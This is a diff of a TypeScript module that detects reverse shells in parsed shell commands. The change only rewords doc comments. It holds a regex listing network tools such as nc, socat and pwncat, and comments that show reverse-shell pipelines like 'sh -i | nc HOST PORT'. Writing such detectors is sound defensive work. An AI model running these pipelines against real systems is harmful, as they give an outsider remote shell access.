@@ -8,7 +8,7 @@ import type { ShellState } from './shell-state.ts'
 const interactive = /^(?:ba|z|da|k|mk|a|c|tc|fi)?sh$|^(?:python|perl|ruby|php|node|lua)[\d.]*$/
 const network = /^(?:nc|ncat|netcat|nc\.\w{1,20}|socat|telnet|cryptcat|pwncat|websocat|openssl)$/
 
-/** `sh -i | nc HOST PORT`, `nc HOST PORT | sh | nc HOST PORT`: a shell between two ends of a network. */
+/** Reports a shell between two ends of a network: `sh -i | nc HOST PORT`, `nc HOST PORT | sh | nc HOST PORT`. */
 export function reportShellBetween(node: Pipeline, state: ShellState): void {
   const names = node.commands.map(programOf)
   const wire = names.findIndex((name, i) => network.test(name) && reaches(name, node.commands[i]))
@@ -23,7 +23,7 @@ function reaches(name: string, node: CommandNode | undefined): boolean {
   return name !== 'openssl' || argumentsOf(node).some(text => /^s_(?:client|server)$/.test(text))
 }
 
-/** A shell or an interpreter whose redirected streams are a network connection. */
+/** Reports a shell or an interpreter whose redirected streams are a network connection. */
 export function reportShellOver(words: readonly Word[], node: CommandNode, state: ShellState): void {
   const program = words[0]?.text.split('/').at(-1) ?? ''
   const own = words.slice(1).filter(word => !word.text.startsWith('-') || word.text.endsWith('c'))
@@ -64,7 +64,7 @@ function argumentsOf(node: CommandNode | undefined): readonly string[] {
     : []
 }
 
-/** No script of its own: what it reads is what comes through the pipe. */
+/** Tells whether a command has no script of its own: it reads the commands that come through the pipe. */
 function takesCommands(node: CommandNode | undefined): boolean {
   const words = argumentsOf(node)
   const shells = words.findLastIndex(text => interactive.test(text.split('/').at(-1) ?? ''))
